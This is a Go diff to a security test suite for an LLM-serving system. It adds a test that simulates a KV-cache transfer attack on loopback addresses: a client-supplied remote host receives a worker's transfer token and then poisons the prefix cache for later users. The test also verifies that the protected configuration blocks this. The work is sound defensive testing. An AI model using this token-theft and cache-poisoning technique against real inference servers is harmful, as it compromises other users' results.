@@ -4,10 +4,13 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net"
+	"net/http"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -50,15 +53,21 @@ type attackNet struct {
 	victimHost   string
 	attackerHost string
 	start        func(t *testing.T, name, args string) *osProc
-	dial         func(ctx context.Context, network, addr string) (net.Conn, error)
-	listen       func(network, addr string) (net.Listener, error)
+	// startReady starts a process that reports ready with ready's match
+	// (a vLLM-compatible worker prints a URL, not a request plane).
+	startReady func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc
+	dial       func(ctx context.Context, network, addr string) (net.Conn, error)
+	listen     func(network, addr string) (net.Listener, error)
 }
 
 // loopbackNet: workers on 127.0.0.2, the attacker on 127.0.0.3.
 func loopbackNet() attackNet {
 	return attackNet{
 		victimHost: victimHost, attackerHost: attackerHost,
-		start:  func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
+		start: func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
+		startReady: func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc {
+			return startProc(t, name, args, ready)
+		},
 		dial:   attackerDialer().DialContext,
 		listen: net.Listen,
 	}
@@ -298,6 +307,10 @@ func runAttacks(t *testing.T, an attackNet) {
 					t.Fatalf("the open prefill worker sent %d bytes (err %v)", bytes, lerr)
 				}
 				t.Logf("open: the prefill worker sent %d bytes to an address of the caller's choosing", bytes)
+			})
+
+			t.Run("token theft through kv_transfer_params", func(t *testing.T) {
+				kvParamsTheft(t, an, tc.protected, mtlsFlags)
 			})
 		})
 	}
@@ -577,4 +590,116 @@ func containsIDs(b []byte, ids []engine.Token) bool {
 		want = append(want, byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
 	}
 	return len(want) > 0 && bytes.Contains(b, want)
+}
+
+// kvParamsTheft is issue 33's first finding: a client's request to a
+// vLLM-compatible worker (--kv-transfer-params) names the attacker's own
+// listener as remote_host:remote_port. Open (--kv-transfer-peers any), the
+// worker POSTs /v1/kv/pull there carrying a transfer token for its own KV
+// node; the attacker pushes its blocks with it, and the next user's
+// identical prompt finds them cached. Protected (the peers list names
+// only the prefill servers' host), nothing reaches the attacker's
+// listener and nothing is cached.
+func kvParamsTheft(t *testing.T, an attackNet, protected bool, mtlsFlags string) {
+	const bpt = 1024
+	args := "worker --openai-addr " + an.victimHost + ":0 --kv-transfer-params --kv-transfer-listen-host " + an.victimHost +
+		" --speedup 100 --kv-bytes-per-token 1024 --kv-events off"
+	if protected {
+		args += " --kv-transfer-peers " + an.victimHost
+	} else {
+		args += " --kv-transfer-peers any"
+	}
+	url := an.startReady(t, "vllm-d", args, frontendReady).line
+	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{DialContext: an.dial}}
+	prompt := make([]engine.Token, 33)
+	for i := range prompt {
+		prompt[i] = engine.Token(300 + i)
+	}
+	complete := func(params map[string]any) (status, cached int) {
+		body := map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 1}
+		if params != nil {
+			body["kv_transfer_params"] = params
+		}
+		b, _ := json.Marshal(body)
+		resp, err := client.Post(url+"/v1/completions", "application/json", bytes.NewReader(b))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		var c struct {
+			Usage struct {
+				Details struct {
+					Cached int `json:"cached_tokens"`
+				} `json:"prompt_tokens_details"`
+			} `json:"usage"`
+		}
+		_ = json.NewDecoder(resp.Body).Decode(&c)
+		return resp.StatusCode, c.Usage.Details.Cached
+	}
+
+	// The attacker's "side channel": it answers the pull by pushing its
+	// own (garbage) blocks with the token the worker sent it.
+	lis, err := an.listen("tcp", an.attackerHost+":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng, err := mocker.New(mocker.Config{Instant: true, KVBytesPerToken: bpt, KVCapacityTokens: 4096})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer eng.Close()
+	drain(t, eng, prompt)
+	node, err := kvtransfer.NewNode(kvtransfer.Config{ID: "evil", Port: eng, Timeout: 5 * time.Second, Dial: an.dial})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer node.Close()
+	var mu sync.Mutex
+	var pulls, pushed int
+	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var pr struct {
+			From    int    `json:"from"`
+			DstID   string `json:"dst_id"`
+			DstAddr string `json:"dst_addr"`
+			Token   []byte `json:"token"`
+		}
+		_ = json.NewDecoder(io.LimitReader(r.Body, 64<<10)).Decode(&pr)
+		mu.Lock()
+		pulls++
+		mu.Unlock()
+		st, err := node.Send(r.Context(), kvtransfer.Peer{ID: pr.DstID, Addr: pr.DstAddr, Token: pr.Token}, prompt[:32], pr.From)
+		if err == nil {
+			mu.Lock()
+			pushed += st.Blocks
+			mu.Unlock()
+		}
+		_, _ = io.WriteString(w, `{"blocks":0,"wanted":0,"bytes":0}`)
+	})}
+	go func() { _ = srv.Serve(lis) }()
+	defer srv.Close()
+	_, port, _ := net.SplitHostPort(lis.Addr().String())
+	var portN int
+	_, _ = fmt.Sscan(port, &portN)
+	// The decode leg's cached tokens are what the pull brought: the
+	// attacker's blocks, which stay in the prefix cache for the next user
+	// of the same prompt.
+	status, cached := complete(map[string]any{"do_remote_prefill": true, "do_remote_decode": false, "remote_engine_id": "evil",
+		"remote_block_ids": []int{0, 1}, "remote_host": an.attackerHost, "remote_port": portN, "remote_request_id": "r1"})
+	if status != 200 {
+		t.Fatalf("the decode leg: status %d", status)
+	}
+	mu.Lock()
+	p, b := pulls, pushed
+	mu.Unlock()
+	if protected {
+		if p != 0 || b != 0 || cached != 0 {
+			t.Fatalf("the worker pulled from the client's address: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
+		}
+		t.Logf("attack_kv_params_token_theft protected: refused (0 pulls reached the client's listener, 0 tokens cached)")
+		return
+	}
+	if p != 1 || b == 0 || cached != 32 {
+		t.Fatalf("the open worker: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
+	}
+	t.Logf("attack_kv_params_token_theft open: works (the token reached the client's listener; %d blocks pushed; %d of the client's tokens cached under the prompt)", b, cached)
 }
